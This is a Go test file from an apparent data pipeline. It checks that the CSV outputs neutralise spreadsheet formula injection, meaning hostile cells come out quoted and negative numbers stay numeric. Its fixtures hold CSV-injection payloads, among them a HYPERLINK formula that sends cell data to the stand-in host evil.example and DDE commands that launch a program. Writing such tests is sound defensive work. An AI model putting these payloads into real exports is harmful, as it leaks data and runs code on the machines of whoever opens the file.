package publish_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/earlywarn/earlywarn/internal/progress"
	"github.com/earlywarn/earlywarn/pipeline/pipelinetest"
	"github.com/earlywarn/earlywarn/pipeline/publish"
	"github.com/earlywarn/earlywarn/pipeline/runrecord"
)

// formulaStarts are the first characters that make a spreadsheet read a CSV cell as a formula
// (OWASP's list for CSV injection).
const formulaStarts = "=+-@\t\r"

// hostileCells are text values that a spreadsheet runs as formulas when they reach a CSV cell
// unchanged, one per starting character.
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// readCSV reads a CSV output (after its byte-order mark) with encoding/csv.
func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	return recs
}

// checkNeutralised fails for every cell of the CSV file at path that starts with a formula
// character, except, in the columns numeric lists, a cell that is a number. It returns the
// file's rows.
func checkNeutralised(t *testing.T, path string, numeric ...int) [][]string {
	t.Helper()
	recs := readCSV(t, path)
	if len(recs) == 0 {
		t.Fatalf("%s is empty", path)
	}
	for i, rec := range recs {
		for j, c := range rec {
			if c == "" || !strings.ContainsRune(formulaStarts, rune(c[0])) {
				continue
			}
			if _, err := strconv.ParseFloat(c, 64); err == nil && slices.Contains(numeric, j) {
				continue
			}
			t.Errorf("%s row %d column %d starts with a formula character: %q", filepath.Base(path), i+1, j+1, c)
		}
	}
	return recs
}

// hasCell reports whether a row of recs holds cell in any column.
func hasCell(recs [][]string, cell string) bool {
	for _, rec := range recs {
		if slices.Contains(rec, cell) {
			return true
		}
	}
	return false
}

// hostileInput copies the tiny fixture into a new folder, with the township, category, target,
// responsible unit and content of every case set to hostile cells and the bad channel of XF-009
// (quarantined) set to a formula.
func hostileInput(t *testing.T, from string) (dir, badChannel string) {
	t.Helper()
	dir = t.TempDir()
	for _, name := range []string{"contacts.csv", "events.csv"} {
		b, err := os.ReadFile(filepath.Join(from, name))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	recs := readCSV(t, filepath.Join(from, "cases.csv"))
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	badChannel = `=cmd|' /C calc'!A0`
	for i, rec := range recs[1:] {
		for k, field := range []string{"township", "category", "target_org", "responsible_unit", "content"} {
			rec[col[field]] = hostileCells[(i+k)%len(hostileCells)] + rec[col[field]]
		}
		if rec[col["case_id"]] == "XF-009" {
			rec[col["channel"]] = badChannel
		}
	}
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	if err := w.WriteAll(recs); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "cases.csv"), b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir, badChannel
}

// TestCSVOutputsNeutraliseFormulas runs the pipeline on the tiny fixture with hostile text in
// every free-text field and a formula as a quarantined channel, and reads every CSV the program
// writes (those of Publish, and backtest.csv) back: no cell starts with a formula character
// unless it is prefixed by a single quote, and a negative number in a numeric column stays a
// number.
func TestCSVOutputsNeutraliseFormulas(t *testing.T) {
	cfg := pipelinetest.Config(t)
	input, badChannel := hostileInput(t, cfg.Input)
	cfg.Input = input
	s := pipelinetest.Run(t, cfg)
	if s.WatchlistItems == 0 {
		t.Fatal("the hostile fixture flags nothing")
	}

	// numeric columns of each CSV output, by index.
	numeric := map[string][]int{
		publish.WatchlistCSV:  {0, 6},                    // rank, score
		publish.QuarantineCSV: {1},                       // line
		publish.BacktestCSV:   {3, 4, 5, 6, 7, 8, 9, 12}, // counts, rates, lead days, matter-days
	}
	var csvs []string
	for _, name := range publish.Outputs() {
		if strings.HasSuffix(name, ".csv") {
			if _, ok := numeric[name]; !ok {
				t.Fatalf("CSV output %s is not checked by this test: add its numeric columns", name)
			}
			csvs = append(csvs, name)
		}
	}
	recs := map[string][][]string{}
	for _, name := range csvs {
		recs[name] = checkNeutralised(t, filepath.Join(cfg.Output, name), numeric[name]...)
	}
	// The hostile text reached the outputs, quoted.
	found := false
	for _, rec := range recs[publish.WatchlistCSV][1:] {
		for _, c := range rec {
			if strings.HasPrefix(c, "'") && strings.ContainsRune(formulaStarts, rune(c[1])) {
				found = true
			}
		}
	}
	if !found {
		t.Errorf("no hostile township, category or unit reached watchlist.csv: %q", recs[publish.WatchlistCSV])
	}
	if !hasCell(recs[publish.QuarantineCSV], "'"+badChannel) {
		t.Errorf("quarantine.csv lacks the bad channel, quoted: %q", recs[publish.QuarantineCSV])
	}

	// A negative score is written as a number: publish the run again after negating one.
	db := pipelinetest.Open(t, cfg)
	pipelinetest.Exec(t, db, `UPDATE watchlist_ranks SET score = -2.5 WHERE run_id = '`+s.RunID+`' AND rank = 1`)
	conn, err := db.Conn(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	again := filepath.Join(t.TempDir(), "out")
	if err := publish.Publish(context.Background(), conn, db, again, publish.Settings{Lang: cfg.Lang}, s, progress.Quiet{}); err != nil {
		t.Fatal(err)
	}
	w := checkNeutralised(t, filepath.Join(again, publish.WatchlistCSV), numeric[publish.WatchlistCSV]...)
	if len(w) < 2 || w[1][6] != "-2.50" {
		t.Errorf("the negative score of rank 1 is not the number -2.50: %q", w)
	}

	// backtest.csv: hostile rule and family names, a negative median lead time.
	lead := -3.0
	res := &runrecord.BacktestResult{From: "2025-06-01", To: "2025-06-02", Days: 2, MatterDays: 10, HasTruth: true,
		Rows: []runrecord.BacktestRow{
			{Scope: "rule", Name: hostileCells[0], Family: hostileCells[3], Events: 2, Detected: 1, Alerts: 3, MedianLeadDays: &lead},
			{Scope: hostileCells[2], Name: hostileCells[4], Family: hostileCells[5]},
		}}
	files, err := publish.WriteBacktest(t.TempDir(), cfg.Lang, res)
	if err != nil {
		t.Fatal(err)
	}
	b := checkNeutralised(t, files[0], numeric[publish.BacktestCSV]...)
	if len(b) != 3 || b[1][9] != "-3.0" || b[1][1] != "'"+hostileCells[0] {
		t.Errorf("backtest.csv: want the lead time -3.0 as a number and the rule name quoted: %q", b)
	}
}
